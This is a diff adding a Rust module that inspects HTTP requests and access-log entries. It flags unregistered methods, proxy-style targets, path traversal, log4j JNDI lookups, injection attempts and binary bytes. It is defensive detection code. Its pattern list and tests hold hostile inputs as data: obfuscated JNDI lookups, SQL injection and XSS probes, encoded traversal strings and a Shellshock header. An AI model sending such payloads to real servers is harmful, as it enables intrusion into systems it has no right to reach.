@@ -1,0 +1,485 @@
+//! What a request asks for, and what is odd about it: the same for requests on the wire and in access logs.
+//!
+//! Targets are decoded to look at them as servers and their applications may. What is kept is the path alone: queries
+//! and session ids in paths are looked at and forgotten.
+
+use std::borrow::Cow;
+
+use percent_encoding::percent_decode_str;
+
+use super::{Oddity, Request};
+
+/// Methods that are registered with IANA (RFC 9110, WebDAV and its extensions, PATCH, HTTP/2's preface).
+const METHODS: [&str; 41] = [
+    "ACL",
+    "BASELINE-CONTROL",
+    "BIND",
+    "CHECKIN",
+    "CHECKOUT",
+    "CONNECT",
+    "COPY",
+    "DELETE",
+    "GET",
+    "HEAD",
+    "LABEL",
+    "LINK",
+    "LOCK",
+    "MERGE",
+    "MKACTIVITY",
+    "MKCALENDAR",
+    "MKCOL",
+    "MKREDIRECTREF",
+    "MKWORKSPACE",
+    "MOVE",
+    "OPTIONS",
+    "ORDERPATCH",
+    "PATCH",
+    "POST",
+    "PRI",
+    "PROPFIND",
+    "PROPPATCH",
+    "PUT",
+    "QUERY",
+    "REBIND",
+    "REPORT",
+    "SEARCH",
+    "TRACE",
+    "UNBIND",
+    "UNCHECKOUT",
+    "UNLINK",
+    "UNLOCK",
+    "UPDATE",
+    "UPDATEREDIRECTREF",
+    "VERSION-CONTROL",
+    // Not registered, but caches in front of servers have it everywhere.
+    "PURGE",
+];
+
+/// Parts of SQL, scripts and commands that tools try and no application writes into its links. Lower case; blanks stand
+/// for `+` and for SQL's empty comment as well. Few and long on purpose: a shop's search for "select" is none.
+const TELL_TALES: [&str; 40] = [
+    "union select",
+    "union all select",
+    "';waitfor delay",
+    "; waitfor delay",
+    "pg_sleep(",
+    "select sleep(",
+    "and sleep(",
+    "or sleep(",
+    "benchmark(5",
+    "information_schema.",
+    "extractvalue(",
+    "updatexml(",
+    "xp_cmdshell",
+    "dbms_pipe.",
+    "utl_inaddr.",
+    "<script",
+    "</script",
+    "<svg/onload",
+    "<svg onload",
+    "onerror=alert",
+    "javascript:alert",
+    "/etc/passwd",
+    "/etc/shadow",
+    "/bin/sh",
+    "/bin/bash",
+    "cmd.exe",
+    "$(id)",
+    "`id`",
+    ";id;",
+    "|id|",
+    "php://input",
+    "php://filter",
+    "expect://",
+    "auto_prepend_file",
+    "<?php",
+    "base64_decode(",
+    "class.module.classloader",
+    "java.lang.runtime",
+    "invokefunction&function",
+    "\0",
+];
+
+/// Bytes that stand for others in targets that hide them: IIS's `%u` and UTF-8 that is longer than it has to be
+/// (CVE-2000-0884), in lower case.
+const DISGUISES: [(&str, &str); 9] = [
+    ("%u002e", "."),
+    ("%u002f", "/"),
+    ("%u2215", "/"),
+    ("%u005c", "\\"),
+    ("%u2216", "\\"),
+    ("%c0%ae", "."),
+    ("%c0%af", "/"),
+    ("%e0%80%ae", "."),
+    ("%c1%9c", "\\"),
+];
+
+/// How often a target is decoded at most. Once is what servers do; tools try twice.
+const MOST_DECODINGS: usize = 3;
+/// Look-ups within look-ups, beyond which it is none of logging's own configurations.
+const MOST_NESTED: usize = 16;
+/// What is kept of a method, a path, a host and an agent: bytes. The whole is looked at.
+const KEPT: [usize; 4] = [32, 1024, 255, 512];
+
+/// What there is to say of a request: what it asks for, and what no browser writes in it.
+///
+/// The path is decoded once, as servers do, and has no query, fragment or session id. An absolute target, and one of
+/// CONNECT, is odd also where the Host header says the same: clients write them to a proxy, and those who look for an
+/// open one write the same name in both places.
+pub fn examine(
+    method: &str,
+    target: &str,
+    host: Option<&str>,
+    agent: Option<&str>,
+    referer: Option<&str>,
+) -> Request {
+    let (authority, rest) = split(method, target);
+    let (path, query) = rest.split_once('?').unwrap_or((rest, ""));
+    let path = match path.split('#').next().unwrap_or_default() {
+        "" if authority.is_some() => "/",
+        path => path,
+    };
+    let (seen_path, seen_query) = (decodings(path), decodings(query));
+    let headers = [host, agent, referer].into_iter().flatten();
+    let is_known = METHODS.contains(&method);
+    let is_token = !method.is_empty() && method.bytes().all(is_token_byte);
+    let checks = [
+        (Oddity::Method, is_token && !is_known),
+        (Oddity::Proxy, authority.is_some()),
+        (Oddity::Traversal, climbs(&seen_path, &seen_query)),
+        (
+            Oddity::Jndi,
+            seen_path.iter().chain(&seen_query).any(|text| asks_jndi(text))
+                || headers.clone().any(|text| asks_jndi(&text.to_lowercase())),
+        ),
+        (
+            Oddity::Injection,
+            seen_path.iter().chain(&seen_query).any(|text| is_injection(text))
+                || headers.clone().any(|text| text.contains("() {")),
+        ),
+        (Oddity::Binary, !is_token || target.contains(is_binary)),
+    ];
+    let [method_bytes, path_bytes, host_bytes, agent_bytes] = KEPT;
+    let decoded = percent_decode_str(path).decode_utf8_lossy();
+    Request {
+        method: cut(method, method_bytes),
+        path: cut(&without_parameters(&decoded), path_bytes),
+        host: authority.or(host).and_then(host_of).map(|host| cut(&host, host_bytes)),
+        agent: agent.filter(|agent| !agent.is_empty()).map(|agent| cut(agent, agent_bytes)),
+        referer: referer
+            .and_then(absolute)
+            .and_then(|(authority, _)| host_of(authority))
+            .map(|host| cut(&host, host_bytes)),
+        oddities: checks.into_iter().filter(|(_, is_so)| *is_so).map(|(oddity, _)| oddity).collect(),
+        status: None,
+    }
+}
+
+/// The authority of a target that has one, and the rest of it (RFC 9112, 3.2).
+fn split<'t>(method: &str, target: &'t str) -> (Option<&'t str>, &'t str) {
+    if method == "CONNECT" {
+        return (Some(target), "");
+    }
+    match absolute(target) {
+        Some((authority, rest)) => (Some(authority), rest),
+        None => (None, target),
+    }
+}
+
+/// The authority of an absolute URI, and what comes after it.
+fn absolute(uri: &str) -> Option<(&str, &str)> {
+    let (scheme, rest) = uri.split_once("://")?;
+    if scheme.is_empty() || !scheme.bytes().all(|byte| byte.is_ascii_alphanumeric()) {
+        return None;
+    }
+    Some(rest.split_at(rest.find(['/', '?', '#']).unwrap_or(rest.len())))
+}
+
+/// A host in lower case, without user, port and last dot.
+fn host_of(authority: &str) -> Option<String> {
+    let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
+    let host = match host.strip_prefix('[').and_then(|host| host.split_once(']')) {
+        Some((host, _)) => host,
+        None => host.split_once(':').filter(|(_, port)| !port.contains(':')).map_or(host, |(host, _)| host),
+    };
+    let host = host.trim_end_matches('.');
+    (!host.is_empty()).then(|| host.to_lowercase())
+}
+
+/// Takes out parameters of path segments, which carry session ids: `/cart;jsessionid=1` is `/cart`. What has no value,
+/// such as `/..;/`, stays.
+fn without_parameters(path: &str) -> Cow<'_, str> {
+    if !path.contains(';') {
+        return path.into();
+    }
+    let segments = path.split('/').map(|segment| match segment.split_once(';') {
+        Some((name, parameters)) if parameters.contains('=') => name,
+        _ => segment,
+    });
+    segments.collect::<Vec<_>>().join("/").into()
+}
+
+/// A text in lower case as it is, decoded once, twice and so on, until nothing changes.
+fn decodings(text: &str) -> Vec<String> {
+    let mut seen = vec![text.to_lowercase()];
+    while seen.len() <= MOST_DECODINGS
+        && let Some(last) = seen.last()
+        && last.contains('%')
+    {
+        let plain = DISGUISES
+            .iter()
+            .filter(|(disguise, _)| last.contains(disguise))
+            .fold(Cow::Borrowed(last), |text, (disguise, plain)| Cow::Owned(text.replace(disguise, plain)));
+        let next = percent_decode_str(&plain).decode_utf8_lossy().to_lowercase();
+        if next == *last {
+            break;
+        }
+        seen.push(next);
+    }
+    seen
+}
+
+/// Whether it leaves the directory that it is in. In a query twice at once: a single `../` is in links of honest
+/// applications.
+fn climbs(path: &[String], query: &[String]) -> bool {
+    let is_up = |segment: &str| {
+        let name = segment.split([';', '\0']).next().unwrap_or_default().trim_end();
+        matches!(name, ".." | "....")
+    };
+    path.iter().any(|text| text.split(['/', '\\']).any(is_up))
+        || query.iter().any(|text| ["../../", "..\\..\\", "....//...."].iter().any(|up| text.contains(up)))
+}
+
+/// Whether log4j would look something up by JNDI in it: look-ups within it that give letters are resolved, as
+/// `${lower:j}`, `${::-j}` and `${env:NONE:-j}`. The text is in lower case.
+fn asks_jndi(text: &str) -> bool {
+    if !text.contains("${") {
+        return false;
+    }
+    let mut open: Vec<String> = Vec::new();
+    let mut rest = text;
+    while let Some(at) = rest.find(['$', '}']) {
+        let (before, from) = rest.split_at(at);
+        if let Some(inner) = open.last_mut() {
+            inner.push_str(before);
+        }
+        rest = &from[1..];
+        if let Some(after) = rest.strip_prefix('{').filter(|_| from.starts_with('$')) {
+            if open.len() == MOST_NESTED {
+                return true;
+            }
+            open.push(String::new());
+            rest = after;
+        } else if from.starts_with('}')
+            && let Some(lookup) = open.pop()
+        {
+            if is_jndi(&lookup) {
+                return true;
+            }
+            if let Some(outer) = open.last_mut() {
+                outer.push_str(resolved(&lookup));
+            }
+        }
+    }
+    if let Some(inner) = open.last_mut() {
+        inner.push_str(rest);
+    }
+    // The end may be cut off.
+    open.iter().any(|lookup| is_jndi(lookup))
+}
+
+fn is_jndi(lookup: &str) -> bool {
+    lookup.trim_start().starts_with("jndi:")
+}
+
+/// What a look-up that serves as a disguise gives.
+fn resolved(lookup: &str) -> &str {
+    let letters = lookup.strip_prefix("lower:").or_else(|| lookup.strip_prefix("upper:"));
+    match (letters, lookup.split_once(":-")) {
+        // The upper case of a dotless i is a plain one.
+        (Some("ı"), _) => "i",
+        (Some(letters), _) => letters,
+        (None, Some((_, default))) => default,
+        (None, None) => "",
+    }
+}
+
+fn is_injection(text: &str) -> bool {
+    let text = text.replace('+', " ").replace("/**/", " ");
+    TELL_TALES.iter().any(|part| text.contains(part)) || compares_numbers(&text)
+}
+
+/// Whether there is ` and 4711=4711` or its like: how tools find out that a parameter gets into SQL.
+fn compares_numbers(text: &str) -> bool {
+    let digits = |text: &str| text.bytes().take_while(u8::is_ascii_digit).count();
+    [" and ", " or "].iter().any(|word| {
+        text.match_indices(word).any(|(at, _)| {
+            let after = text[at + word.len()..].trim_start_matches(['(', '\'', ' ']);
+            let (left, rest) = after.split_at(digits(after));
+            let right = rest.trim_start_matches(['\'', ' ']).strip_prefix('=');
+            !left.is_empty() && right.is_some_and(|right| digits(right.trim_start_matches(['\'', ' '])) > 0)
+        })
+    })
+}
+
+/// RFC 9110, 5.6.2.
+fn is_token_byte(byte: u8) -> bool {
+    byte.is_ascii_alphanumeric() || b"!#$%&'*+-.^_`|~".contains(&byte)
+}
+
+/// Raw letters beyond ASCII are against the rules too, but careless programs write them. Bytes that are no text came
+/// as U+FFFD.
+fn is_binary(char: char) -> bool {
+    char.is_control() || char == char::REPLACEMENT_CHARACTER
+}
+
+/// The beginning of a text: at most so many bytes, and whole characters.
+fn cut(text: &str, bytes: usize) -> String {
+    text[..text.floor_char_boundary(bytes)].to_owned()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn of(method: &str, target: &str) -> Request {
+        examine(method, target, None, None, None)
+    }
+
+    #[test]
+    fn paths_are_decoded_and_have_no_query_and_no_session() {
+        let rows = [
+            ("/", "/"),
+            ("/a%20b/%C3%BC?token=secret", "/a b/ü"),
+            ("/%2egit/HEAD#top", "/.git/HEAD"),
+            ("/cart;jsessionid=0123;v=1/items?x", "/cart/items"),
+            ("/..;/manager", "/..;/manager"),
+            ("/100%", "/100%"),
+            ("/%ff", "/\u{fffd}"),
+            ("*", "*"),
+            ("http://Example.org?secret", "/"),
+            ("http://example.org/x?secret", "/x"),
+            ("index.html", "index.html"),
+            ("", ""),
+        ];
+        for (target, path) in rows {
+            assert_eq!(of("GET", target).path, path, "{target}");
+        }
+        assert_eq!(of("GET", &"/ü".repeat(9_999)).path.len(), 1024);
+    }
+
+    #[test]
+    fn hosts_are_names_only() {
+        let rows = [
+            (Some("Example.ORG:8080"), Some("example.org")),
+            (Some("example.org."), Some("example.org")),
+            (Some("[2001:DB8::1]:443"), Some("2001:db8::1")),
+            (Some("2001:db8::1"), Some("2001:db8::1")),
+            (Some("192.0.2.1"), Some("192.0.2.1")),
+            (Some(":80"), None),
+            (Some(""), None),
+            (None, None),
+        ];
+        for (host, expected) in rows {
+            assert_eq!(examine("GET", "/", host, None, None).host.as_deref(), expected, "{host:?}");
+        }
+        let request = examine("GET", "http://user:word@other.net:81/", Some("a.org"), None, None);
+        assert_eq!(request.host.as_deref(), Some("other.net"), "the target is what counts (RFC 9112, 3.2.2)");
+        let referers = [
+            ("https://Search.example:8443/find?q=secret", Some("search.example")),
+            ("android-app://com.example/", None),
+            ("no address", None),
+            ("", None),
+        ];
+        for (referer, expected) in referers {
+            let request = examine("GET", "/", None, None, Some(referer));
+            assert_eq!(request.referer.as_deref(), expected, "{referer}");
+        }
+    }
+
+    #[test]
+    fn what_browsers_and_applications_write_is_not_odd() {
+        let rows = [
+            ("GET", "/"),
+            ("GET", "/search?q=select+a+union+and+2+or+more"),
+            ("GET", "/search?q=rock+and+roll&page=2&or=1"),
+            ("GET", "/a/b..c/..d/e../f...g/.../h?next=../x"),
+            ("GET", "/%E2%82%AC/%C3%BC?a=%2F&b=%25"),
+            ("GET", "/ü?raw=ü"),
+            ("GET", "/price?sum=$%7B5%7D&t=${name}"),
+            ("POST", "/wp-admin/admin-ajax.php?action=heartbeat"),
+            ("GET", "/login?back=https%3A%2F%2Fexample.org%2Fhome%3Fa%3Db"),
+            ("GET", "/docs/etc/passwords.html"),
+            ("GET", "/search?q=%22cats%22+or+%22dogs%22&p='a'+or+'b'"),
+            ("OPTIONS", "*"),
+            ("PROPFIND", "/remote.php/dav/files/"),
+            ("VERSION-CONTROL", "/x"),
+        ];
+        for (method, target) in rows {
+            assert_eq!(of(method, target).oddities, [], "{method} {target}");
+        }
+        let agent = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0";
+        let referer = "https://example.org/?q=${x}";
+        let request = examine("GET", "/", Some("example.org"), Some(agent), Some(referer));
+        assert_eq!((request.oddities.as_slice(), request.agent.as_deref()), ([].as_slice(), Some(agent)));
+    }
+
+    #[test]
+    fn what_they_never_write_is() {
+        use Oddity::{Binary, Injection, Jndi, Method, Proxy, Traversal};
+        let rows: &[(&str, &str, &[Oddity])] = &[
+            ("FOO", "/", &[Method]),
+            ("get", "/", &[Method]),
+            ("GET", "http://example.org/", &[Proxy]),
+            ("CONNECT", "example.org:443", &[Proxy]),
+            ("GET", "/../../etc/hosts", &[Traversal]),
+            ("GET", "/a/%2e%2E/b", &[Traversal]),
+            ("GET", "/a/..%2f..%5cb", &[Traversal]),
+            ("GET", "/%252e%252e/x", &[Traversal]),
+            ("GET", "/%25252e%25252e/x", &[Traversal]),
+            ("GET", "/%c0%ae%C0%AE/x", &[Traversal]),
+            ("GET", "/scripts/..%c0%af../x", &[Traversal]),
+            ("GET", "/..%u2215x", &[Traversal]),
+            ("GET", "/..\\x", &[Traversal]),
+            ("GET", "/..;/manager/html", &[Traversal]),
+            ("GET", "/....//....//x", &[Traversal]),
+            ("GET", "/?file=..%2F..%2Fx", &[Traversal]),
+            ("GET", "/?a=${jndi:ldap://192.0.2.1/a}", &[Jndi]),
+            ("GET", "/$%7Bjndi:ldap://192.0.2.1/a%7D", &[Jndi]),
+            ("GET", "/?a=${${lower:J}ndi:${lower:l}dap://x}", &[Jndi]),
+            ("GET", "/?a=${${::-j}${::-n}${::-d}${::-i}:rmi://x}", &[Jndi]),
+            ("GET", "/?a=${${env:X:-j}ndi${env:X:-:}ldap://x}", &[Jndi]),
+            ("GET", "/?a=${jnd${upper:ı}:ldap://x}", &[Jndi]),
+            ("GET", "/?a=${jn${env::-}di:ldap", &[Jndi]),
+            ("GET", "/?id=1'+UNION/**/SELECT+1,2--", &[Injection]),
+            ("GET", "/?id=1%20AND%204711%3D4711", &[Injection]),
+            ("GET", "/?id=1)+AND+(12=12", &[Injection]),
+            ("GET", "/?id=1'+OR+'7'='7", &[Injection]),
+            ("GET", "/?id=1'+OR+1=1--", &[Injection]),
+            ("GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", &[Injection]),
+            ("GET", "/?q=%253Cscript%253E", &[Injection]),
+            ("GET", "/?f=/etc/passwd%00.png", &[Injection]),
+            ("GET", "/x%00.php", &[Injection]),
+            ("GET", "/cgi-bin/..%2f..%2f/bin/sh", &[Traversal, Injection]),
+            ("\u{16}\u{3}\u{1}", "\u{fffd}", &[Binary]),
+            ("GET", "/\u{1}", &[Binary]),
+            ("", "", &[Binary]),
+        ];
+        for (method, target, oddities) in rows {
+            assert_eq!(of(method, target).oddities, *oddities, "{method} {target}");
+        }
+        let header = examine("GET", "/", None, Some("${${lower:j}NDI:dns://x}"), None);
+        assert_eq!(header.oddities, [Jndi]);
+        let header = examine("GET", "/", None, None, Some("() { :;}; echo"));
+        assert_eq!(header.oddities, [Injection]);
+        assert_eq!(of("GET", &format!("/?{}", "${a".repeat(5_000))).oddities, [Jndi], "too deep for a log");
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn no_request_is_too_odd(method in ".{0,9}", target in "[/.%2e5c${}:jndi;?# -~\\PC]{0,200}", host in ".*") {
+            let request = examine(&method, &target, Some(&host), Some(&target), Some(&target));
+            proptest::prop_assert!(request.path.len() <= KEPT[1]);
+        }
+    }
+}
